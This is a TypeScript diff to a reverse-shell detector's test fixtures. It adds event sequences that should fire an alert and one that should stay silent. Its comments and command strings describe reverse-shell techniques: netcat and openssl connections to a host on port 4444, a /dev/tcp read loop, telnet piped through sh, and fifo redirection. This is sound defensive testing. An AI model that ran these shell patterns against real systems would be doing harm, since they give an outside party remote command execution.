@@ -26,6 +26,9 @@ function runs(
   };
 }
 
+const opens = (process_key: number, inode: number, access: "read" | "write"): Samples => ({
+  ...{ event: "file_open", process_key, inode, access, mode: 0o010644 },
+});
 const forks = (parent_key: number, child_key: number): Samples => ({
   ...{ event: "process_fork", process_key: parent_key, parent_key, child_key },
   child_pid: 100 + child_key,
@@ -120,7 +123,15 @@ export const fires: Sequences = [
     runs(4, "nc 198.51.100.7 4444", [from, fifo, log]),
     connects(4),
   ],
-  // The same without -i, for a server.
+  // Both sides are of the job.
+  [
+    shell,
+    { event: "socket_listen", process_key: 1, type: "stream", local: "127.0.0.1:7000" },
+    python,
+    connects(2, "127.0.0.1:7000"),
+    runs(3, "bash", [to, from, from], 2),
+  ],
+  // The fifo without -i, for a server.
   [
     shell,
     runs(3, "sh", [to, from, from]),
@@ -134,6 +145,26 @@ export const fires: Sequences = [
     runs(4, "openssl s_client -quiet -connect h:4444", [from, fifo, log]),
     connects(4),
     runs(3, "sh", [fifo, from, from]),
+  ],
+  // sh <in >out 2>&1 & and a program that opens both, and copies.
+  [
+    shell,
+    opens(3, 30, "read"),
+    opens(3, 31, "write"),
+    runs(3, "sh", [fifo, ["pipe", 31], ["pipe", 31]]),
+    python,
+    connects(2),
+    opens(2, 31, "read"),
+    opens(2, 30, "write"),
+  ],
+  // exec 3<>/dev/tcp/HOST/PORT; cat <&3 | while read -r line; do $line >&3; done
+  [
+    shell,
+    {
+      ...runs(2, "cat", [["inet_socket", 40], to, log]),
+      ...{ stdin_peer: peer, stdin_local: local },
+    } as Samples,
+    { ...runs(3, "id", [to, ["inet_socket", 40], log]), stdout_peer: peer } as Samples,
   ],
   // telnet HOST PORT | sh | telnet HOST PORT2
   [shell, runs(2, "telnet h 1", [none, to, log]), connects(2), runs(3, "sh", [to, from, log])],
@@ -206,6 +237,13 @@ export const silent: Sequences = [
   ],
   // A shell that inherits what the networked process was started with.
   [runs(1, "python3 tool.py", [to, from, from]), connects(1), runs(2, "sh", [to, from, from])],
+  // A cell of a notebook.
+  [
+    shell,
+    runs(2, "python3 -m ipykernel_launcher -f x", [none, log, log]),
+    connects(2),
+    runs(3, "bash", [to, from, errors], 2),
+  ],
   // A session of an SSH server.
   [shell, runs(2, "sshd -D", [none, log, log]), accepts(2), runs(3, "bash -l", [tty, tty, tty], 2)],
 ];
